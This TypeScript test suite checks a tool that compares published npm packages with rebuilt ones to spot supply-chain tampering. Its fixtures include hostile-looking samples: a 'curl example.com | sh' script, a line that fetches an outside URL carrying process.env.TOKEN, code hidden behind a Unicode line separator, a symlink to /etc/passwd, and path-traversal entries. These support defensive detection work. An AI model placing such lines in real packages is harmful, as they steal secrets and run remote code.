/** Every tampered twin is suspicious; no honest look-alike is. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ComparedMember } from '../../../core/comparison-input.ts';
import { sha256 } from '../../../core/digest.ts';
import type { ComparisonVerdict } from '../../../core/rebuild.ts';
import {
  bundle,
  commit,
  compared,
  file,
  json,
  manifest,
  other,
  thing,
  withFile,
  withManifest,
  withText,
} from '../testing/packages.ts';

const swapped = (text: string): string => text.replace('return a * 7 + b', 'return a * 7 - b');
const exec = (member: ComparedMember): ComparedMember => ({ ...member, mode: 0o755 });

/** What upstream published instead of `thing`, and the rule that must say so. */
const tampered: readonly (readonly [string, readonly ComparedMember[], string])[] = [
  [
    'a postinstall script added',
    withManifest(thing, { scripts: { ...manifest.scripts, postinstall: 'node dist/inner.js' } }),
    'npm/install-script',
  ],
  [
    'another script changed',
    withManifest(thing, { scripts: { ...manifest.scripts, test: 'curl example.com | sh' } }),
    'npm/scripts',
  ],
  [
    'a dependency added',
    withManifest(thing, { dependencies: { left: '^1.0.0', evil: '1.0.0' } }),
    'npm/dependencies',
  ],
  ['a dependency changed', withManifest(thing, { dependencies: { left: '^2.0.0' } }), 'npm/dependencies'],
  ['another main', withManifest(thing, { main: 'dist/inner.js' }), 'npm/main'],
  ['exports added', withManifest(thing, { exports: './dist/inner.js' }), 'npm/exports'],
  ['a command added', withManifest(thing, { bin: { thing: 'bin/thing.js', ls: 'bin/thing.js' } }), 'npm/bin'],
  ['another version inside', withManifest(thing, { version: '1.2.4' }), 'npm/version'],
  [
    'a key twice in package.json',
    withText(thing, 'package.json', (text) => text.replace('{', '{"main": "dist/inner.js",')),
    'npm/manifest-unreadable',
  ],
  ['code on one side', [...thing, file('dist/extra.js', 'module.exports = 2;\n')], 'npm/one-sided-code'],
  ['code under another name', [...thing, file('notes.md', '#!/bin/sh\nid\n')], 'npm/one-sided-code'],
  [
    'a file that can hold anything',
    [...thing, file('data.bin', Buffer.from([1, 0, 2]))],
    'npm/one-sided-file',
  ],
  ['an addon that node-gyp builds', [...thing, file('binding.gyp', '{}')], 'npm/install-code'],
  ['noise that holds something else', [...thing, file('.DS_Store', 'require("fs")')], 'npm/one-sided-file'],
  ['an exec bit', withFile(thing, 'dist/inner.js', exec), 'npm/exec-bit'],
  ['one line of the bundle swapped', withText(thing, 'dist/index.js', swapped), 'npm/lone-edit'],
  [
    'one line of a minified bundle swapped',
    withText(thing, 'dist/index.js', (text) => swapped(text).replaceAll('\n', '')),
    'npm/lone-edit',
  ],
  [
    'words of new abilities',
    withText(thing, 'dist/index.js', (text) => `${text}\nfetch('//example.com/' + process.env.TOKEN);\n`),
    'npm/new-capability',
  ],
  [
    'code behind what looks like a comment',
    withText(thing, 'dist/inner.js', (text) => `// harmless\u2028steal();\n${text}`),
    'npm/lone-edit',
  ],
  [
    'code in a template that looks like a comment',
    withText(thing, 'dist/inner.js', (text) => `${text}// \${steal()}\n`),
    'npm/lone-edit',
  ],
  [
    'a file packed twice',
    [...thing, file('dist/inner.js', 'module.exports = 2;\n')],
    'ambiguous/duplicate-path',
  ],
  [
    'a file packed twice, the same',
    [...thing, file('dist/inner.js', 'module.exports = 1;\n')],
    'ambiguous/duplicate-path',
  ],
  ['names that collide by case', [...thing, file('dist/Inner.js', 'x')], 'ambiguous/colliding-path'],
  ['a climbing path', [...thing, file('../x.js', 'x')], 'ambiguous/path-dotdot'],
  ['an absolute path', [...thing, file('/etc/x', 'x')], 'ambiguous/path-absolute'],
  [
    'setuid',
    withFile(thing, 'dist/inner.js', (member) => ({ ...member, mode: 0o4755 })),
    'ambiguous/special-mode',
  ],
  ['a symbolic link', [...thing, other('dist/link', 'symlink', 0o777, '/etc/passwd')], 'ambiguous/symlink'],
  ['a hard link', [...thing, other('dist/link', 'hardlink', 0o644, 'dist/inner.js')], 'ambiguous/hardlink'],
  ['a device', [...thing, other('dist/null', 'device', 0o666)], 'ambiguous/device'],
  [
    'a file for a folder',
    withFile(thing, 'dist/inner.js', () => other('dist/inner.js', 'directory')),
    'type-changed',
  ],
];

for (const [name, upstream, rule] of tampered) {
  test(`tampered: ${name}`, () => {
    const rebuilt = name.includes('minified')
      ? withText(thing, 'dist/index.js', (text) => text.replaceAll('\n', ''))
      : thing;
    const { verdict, differences } = compared(upstream, rebuilt);
    assert.equal(verdict, 'suspicious');
    assert.ok(
      differences.some((one) => one.grade === 'suspicious' && one.rule === rule),
      JSON.stringify(differences.map((one) => [one.rule, one.grade])),
    );
  });
}

const crlf = (text: string): string => text.replaceAll('\n', '\r\n');
const appleDouble = Buffer.concat([Buffer.from([0, 5, 0x16, 7]), Buffer.alloc(60)]);

/** What honest publishers do, and the most that may be said of it. */
type Honest = readonly [
  name: string,
  upstream: readonly ComparedMember[],
  verdict: ComparisonVerdict,
  rebuilt?: readonly ComparedMember[],
];

const honest: readonly Honest[] = [
  ['nothing differs', thing, 'identical'],
  ['another order of members', [...thing].reverse(), 'equivalent'],
  ['other permission bits', thing.map((one) => ({ ...one, mode: one.mode | 0o020 })), 'equivalent'],
  ['folders as members', [other('dist', 'directory'), ...thing], 'equivalent'],
  ['an empty folder', [...thing, other('empty', 'directory')], 'benign-difference'],
  ['CR LF', withText(thing, 'dist/inner.js', crlf), 'benign-difference'],
  ['CR LF in package.json', withText(thing, 'package.json', crlf), 'benign-difference'],
  [
    'another order of top keys',
    withText(thing, 'package.json', () => json(Object.fromEntries(Object.entries(manifest).reverse()), 4)),
    'benign-difference',
  ],
  ['gitHead of the commit that was built', withManifest(thing, { gitHead: commit }), 'benign-difference'],
  ['gitHead of another commit', withManifest(thing, { gitHead: 'a'.repeat(40) }), 'unexplained'],
  [
    'fields of old npm',
    withManifest(thing, { _id: 'thing@1.2.3', _npmVersion: '2.0.0' }),
    'benign-difference',
  ],
  ['a leftover of a file manager', [...thing, file('dist/._inner.js', appleDouble)], 'benign-difference'],
  [
    'a command without exec bit',
    withFile(thing, 'bin/thing.js', (one) => ({ ...one, mode: 0o644 })),
    'benign-difference',
  ],
  ['all files executable', thing.map(exec), 'unexplained'],
  [
    'a banner with the day',
    withText(thing, 'dist/inner.js', (text) => `/* built 2024-03-01T11:58:02.123Z */\n${text}`),
    'benign-difference',
    withText(thing, 'dist/inner.js', (text) => `/* built 2024-03-01T10:00:04.000Z */\n${text}`),
  ],
  [
    'a banner with another day',
    withText(thing, 'dist/inner.js', (text) => `/* built 2023-03-01T11:58:02.123Z */\n${text}`),
    'unexplained',
    withText(thing, 'dist/inner.js', (text) => `/* built 2024-03-01T10:00:04.000Z */\n${text}`),
  ],
  [
    'a shortened commit of another length',
    withText(thing, 'dist/inner.js', (text) => `/* ${commit.slice(0, 7)} */\n${text}`),
    'benign-difference',
    withText(thing, 'dist/inner.js', (text) => `/* ${commit.slice(0, 9)} */\n${text}`),
  ],
  [
    'the folder it was built in',
    withText(
      thing,
      'dist/inner.js',
      (text) => `${text}var from = "/home/runner/work/thing/thing/src/a.ts";\n`,
    ),
    'benign-difference',
    withText(thing, 'dist/inner.js', (text) => `${text}var from = "/build/source/src/a.ts";\n`),
  ],
  [
    'a source map relative to elsewhere',
    withText(thing, 'dist/index.js.map', (text) =>
      text.replace('../src', '../../../packages/thing/src').replace('packages/thing/', ''),
    ),
    'benign-difference',
  ],
  [
    'a comment that is one wherever it stands',
    withText(thing, 'dist/inner.js', (text) => `// another word\n${text}`),
    'unexplained',
  ],
  ['a document on one side', [...thing, file('CHANGELOG.md', '# 1\n')], 'unexplained'],
  ['a file that upstream lacks', thing.slice(0, -1), 'unexplained'],
  [
    'scripts taken out when publishing',
    withManifest(thing, { scripts: { test: 'node --test' } }),
    'unexplained',
  ],
  ['another word in a document', withText(thing, 'README.md', (text) => `${text}!\n`), 'unexplained'],
  [
    'the output of another version of a compiler',
    withText(thing, 'dist/index.js', (text) => `"use strict";\nexports.f1 = void 0;\n${text}`),
    'unexplained',
  ],
  [
    'code that another tool made',
    withText(thing, 'dist/index.js', () => bundle.replaceAll('function (a, b)', '(a, b) =>')),
    'unexplained',
  ],
  [
    'a build step that the recipe lacks',
    thing,
    'unexplained',
    thing.filter(({ path }) => !path.startsWith('dist/')),
  ],
  [
    'a version that the source leaves open',
    thing,
    'unexplained',
    withManifest(thing, { version: '0.0.0-development' }),
  ],
];

for (const [name, upstream, verdict, rebuilt = thing] of honest) {
  test(`honest: ${name}`, () => {
    const found = compared(upstream, rebuilt);
    assert.equal(
      found.verdict,
      verdict,
      JSON.stringify(found.differences.map((one) => [one.path, one.rule, one.grade])),
    );
  });
}

test('a file that the source has word for word may differ by nothing at all', () => {
  const long = withText(thing, 'dist/index.js', () => bundle.replaceAll('a *', 'b *'));
  const source = thing.find(({ path }) => path === 'dist/index.js');
  const found = compared(long, thing, { sourceFiles: [sha256(source?.content ?? '')] });
  assert.deepEqual([found.verdict, found.differences[0]?.rule], ['suspicious', 'npm/copied-file']);
  assert.equal(compared(long, thing).verdict, 'unexplained');
});

test('a file that the source has word for word may be stamped, and be older output of a step that was left out', () => {
  const source = [...thing, file('x', '')].map(({ content }) => sha256(content));
  const stamped = withText(thing, 'dist/inner.js', () => 'module.exports = "1.2.3";\n');
  const plain = withText(thing, 'dist/inner.js', () => 'module.exports = "0.0.0";\n');
  const known = { sourceFiles: [...source, ...plain.map(({ content }) => sha256(content))] };
  assert.equal(compared(stamped, plain, known).verdict, 'unexplained');
  const other = withText(thing, 'dist/index.js', () => bundle.replaceAll('a *', 'b *'));
  assert.equal(compared(other, thing, known).verdict, 'suspicious');
  assert.equal(compared(other, thing, { ...known, buildsLeftOut: true }).verdict, 'unexplained');
  const bad = withText(other, 'dist/index.js', (text) => `${text}\nfetch('//example.com/');\n`);
  assert.equal(compared(bad, thing, { ...known, buildsLeftOut: true }).verdict, 'suspicious');
});

test('of a file that only upstream has, it is told that the source holds it, and the grade stays', () => {
  const extra = file('dist/extra.js', 'module.exports = 2;\n');
  const notes = file('NOTES.md', 'x\n');
  const upstream = [...thing, extra, notes];
  const without = compared(upstream, thing);
  const held = compared(upstream, thing, { sourceFiles: [sha256(extra.content), sha256(notes.content)] });
  assert.deepEqual(
    held.differences.map(({ path, rule, grade }) => [path, rule, grade]),
    without.differences.map(({ path, rule, grade }) => [path, rule, grade]),
  );
  assert.ok(held.differences.every(({ reason }) => reason.includes('The source holds this very file')));
  assert.ok(without.differences.every(({ reason }) => !reason.includes('The source holds')));
});

test('an ignore file that old npm packed is forgiven only when the source holds it and nothing refers to it', () => {
  const ignore = file('.npmignore', 'node_modules/\n');
  const upstream = [...thing, ignore];
  const sourceFiles = [sha256(ignore.content)];
  const held = compared(upstream, thing, { sourceFiles });
  assert.equal(held.verdict, 'benign-difference');
  assert.deepEqual(held.normalisers, [
    { name: 'packed-ignore-file', version: '1', paths: ['.npmignore'], touched: 1 },
  ]);
  assert.equal(compared(upstream, thing).verdict, 'unexplained');
  assert.equal(compared(upstream, thing, { sourceFiles: [] }).verdict, 'unexplained');
  assert.equal(compared(thing, upstream, { sourceFiles }).verdict, 'unexplained');
  const used = withText(thing, 'dist/inner.js', () => "module.exports = require('../.npmignore');\n");
  assert.equal(compared([...used, ignore], used, { sourceFiles }).verdict, 'suspicious');
  const run = { ...ignore, mode: 0o755 };
  assert.equal(compared([...thing, run], thing, { sourceFiles }).verdict, 'suspicious');
});

test('a backup of an editor is no alarm, and hides nothing', () => {
  const text = `${bundle}\n`;
  const verdictOf = (name: string, content: string, mode?: number): string => {
    const with_ = withText(thing, 'dist/index.js', () => text);
    return compared([...with_, file(name, content, mode)], with_).verdict;
  };
  assert.equal(verdictOf('dist/index.js~', text.replace('a * 7', 'a * 8')), 'unexplained');
  assert.equal(verdictOf('dist/index.js.orig', text), 'unexplained');
  assert.equal(verdictOf('dist/index.js~', 'steal();\n'.repeat(60)), 'suspicious');
  assert.equal(verdictOf('dist/index.js~', text, 0o755), 'suspicious');
  assert.equal(verdictOf('dist/other.js~', text), 'suspicious');
  const loads = withText(thing, 'dist/index.js', () => `require('./inner.js~');\n`);
  const inner = file('dist/inner.js~', 'module.exports = 1;\n');
  assert.equal(compared([...loads, inner], loads).verdict, 'suspicious');
});
